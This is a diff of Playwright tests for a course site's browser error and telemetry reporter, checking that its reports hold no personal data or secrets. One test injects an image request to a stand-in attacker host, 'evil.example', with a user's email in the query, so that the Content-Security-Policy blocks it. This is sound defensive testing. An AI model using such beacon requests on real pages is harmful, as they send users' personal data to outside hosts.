@@ -38,7 +38,8 @@ test.beforeEach(() => void (lines.length = 0));
 
 interface Report {
   kind: string;
-  message: string;
+  name: string;
+  at?: string;
   route: string;
   release: string;
   browser: string;
@@ -73,7 +74,7 @@ test('errors are reported once each, ten of a page load at most, and name nobody
         throw new TypeError(text);
       });
     void Promise.reject(new Error(text));
-    for (let at = 0; at < 20; at += 1) void Promise.reject(new Error(`forjado ${'x'.repeat(at)}`));
+    for (let at = 0; at < 20; at += 1) void Promise.reject(Object.assign(new Error(text), { name: `Forjado${at}` }));
   }, hostile);
   await expect.poll(() => reports().length).toBeGreaterThanOrEqual(7);
   await page.goto('/healthz');
@@ -83,9 +84,9 @@ test('errors are reported once each, ten of a page load at most, and name nobody
   const [first] = reports();
   expect(first).toMatchObject({ kind: 'error', route: '/perfil', release: expect.stringMatching(/^[\w.+-]+$/) });
   expect(first?.browser).toContain('Chrom');
-  expect(reports().filter(({ kind, message }) => kind === 'error' && message === first?.message)).toHaveLength(1);
+  expect(reports().filter(({ kind, name: one }) => kind === 'error' && one === 'TypeError')).toHaveLength(1);
   const sent = lines.join('\n');
-  for (const secret of [name, String(token), 'ativa@', '123.456', 'token=', '/curso/12'])
+  for (const secret of ['forjado', name, String(token), 'ativa@', '123.456', 'token=', '/curso/12'])
     expect([secret, sent.includes(secret)]).toEqual([secret, false]);
 });
 
@@ -96,7 +97,7 @@ test('the paint, the shift and the answer to a click are reported by the pattern
   await openAsMember(page, mock, '/curso/1');
   await page.getByRole('heading', { level: 2, name: 'Conteúdo do curso' }).click();
   await page.goto('/healthz');
-  await expect.poll(() => reports().map(({ message }) => message)).toEqual(expect.arrayContaining(['LCP', 'CLS']));
+  await expect.poll(() => reports().map(({ name }) => name)).toEqual(expect.arrayContaining(['LCP', 'CLS']));
   for (const { kind, route, value } of reports()) {
     expect([kind, route]).toEqual(['vital', '/curso/:cursoId']);
     expect(value).toBeGreaterThanOrEqual(0);
@@ -110,7 +111,7 @@ test('an answer that differs from the contract is reported without its content',
   await page.goto('/perfil/fundos');
   await expect.poll(() => reports().map(({ kind }) => kind)).toContain('drift');
   const [drift] = reports();
-  expect(drift?.message).toContain('GET /fundos');
+  expect(drift?.name).toContain('GET /fundos');
   expect(lines.join()).not.toMatch(/segredo|Secreta/);
 });
 
@@ -124,8 +125,8 @@ test('a violation of the policy is reported by the browser, without the query', 
   await page.evaluate(() => {
     new Image().src = 'https://evil.example/x.png?who=ana@exemplo.com.br';
   });
-  await expect.poll(() => reports().map(({ kind }) => kind), { timeout: 20_000 }).toContain('policy');
-  const policy = lines.find((line) => line.includes('"policy"'));
+  await expect.poll(() => lines.join(), { timeout: 20_000 }).toContain('img-src');
+  const policy = lines.find((line) => line.includes('img-src'));
   expect(policy).toContain('img-src');
   expect(policy).not.toMatch(/token=|ana@|\/curso\/1\b/);
 });
